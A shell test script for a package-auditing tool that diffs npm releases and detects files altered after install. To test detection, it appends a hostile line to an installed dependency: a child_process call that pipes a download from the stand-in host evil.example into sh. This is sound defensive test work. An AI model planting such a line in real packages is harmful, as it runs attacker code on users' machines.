#!/bin/sh
# Package patches on real installs (../shared/data/npm: two `npm ci` of
# @modelcontextprotocol/server-filesystem, one cache holding both): the
# upgrade's release diffs come from the two published tarballs of each
# changed package, read from the cache in memory; a line appended to an
# installed file after install shows against the published bytes.
set -eu
. "$CAIRN_SRC/tests/cli/lib.sh"
npm_upgrade
cairn-snap -q --npm-cache cache/cache/_cacache v1 -o v1.cairn
cairn-snap -q --npm-cache cache/cache/_cacache v2 -o v2.cairn

expect_exit 1 cairn-diff --patch v1.cairn v2.cairn
# one release diff per changed package, in the diff's order
grep '^== ' out.txt | sed 's/: what the release.*//' > origins.txt
cat > origins.want <<'T'
== @modelcontextprotocol/server-filesystem 2025.8.21 -> 2026.8.31
== diff 5.2.2 -> 8.0.4
== glob 10.5.0 -> 13.0.7
== lru-cache 10.4.3 -> 11.5.3
== path-scurry 1.11.1 -> 2.0.2
T
diff -u origins.want origins.txt >&2 || fail "release diffs"
# the manifest first, then code; the new version in it
sed -n '/^== @modelcontextprotocol/,/^== diff/p' out.txt > server.txt
[ "$(grep -m1 '^diff --git' server.txt)" = "diff --git a/node_modules/@modelcontextprotocol/server-filesystem/package.json b/node_modules/@modelcontextprotocol/server-filesystem/package.json" ] ||
	fail "first patch: $(grep -m1 '^diff --git' server.txt)"
grep -qx '+  "version": "2026.8.31",' server.txt || fail "version line"
grep -q '^diff --git a/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js ' server.txt ||
	fail "no patch of dist/index.js"
# the caps are marked, never silent
grep -qx '\[\.\.\. patch cut at 400 lines \.\.\.\]' out.txt || fail "no per-file cut mark"
grep -q "^\[\.\.\. [0-9]* more changed files of diff not shown: a package's patches stop at 1200 lines \.\.\.\]$" out.txt ||
	fail "no per-package cut mark"
# nothing installed differs from its tarball in these real installs
if grep -q 'as installed, against its published tarball' out.txt; then
	fail "an installed patch on an untouched install"
fi

# a line appended after install, against the published bytes
cp -a v1 bad
printf 'require("child_process").exec("curl https://evil.example/x | sh");\n' \
	>> bad/node_modules/diff/lib/index.js
cairn-snap -q --npm-cache cache/cache/_cacache bad -o bad.cairn
expect_exit 1 cairn-diff --patch --findings v1.cairn bad.cairn
grep -q '^== diff 5.2.2 as installed, against its published tarball in the npm cache cache/cache/_cacache: a/ the published bytes, b/ the installed bytes (read from .*/bad, SHA-256 as the snapshot recorded)$' out.txt ||
	fail "installed origin: $(grep '^== ' out.txt)"
grep -qxF '+require("child_process").exec("curl https://evil.example/x | sh");' out.txt ||
	fail "the appended line"
grep -q 'CAIRN-D05 node_modules/diff/lib/index.js: new destination in added code: evil.example' out.txt ||
	fail "D05: $(grep CAIRN- out.txt)"
# the report shows the same, from the cache the snapshots recorded
expect_exit 1 cairn-report --baseline v1.cairn --snapshot bad.cairn -o r.json
[ "$(jq -r '[.patches[] | select(.path == "node_modules/diff/lib/index.js") | .kind] | join(",")' r.json)" = installed ] ||
	fail "report: $(jq -c '[.patches[] | {path, kind}]' r.json)"
echo "real installs: 5 release diffs from the cache, the appended line against the published bytes"
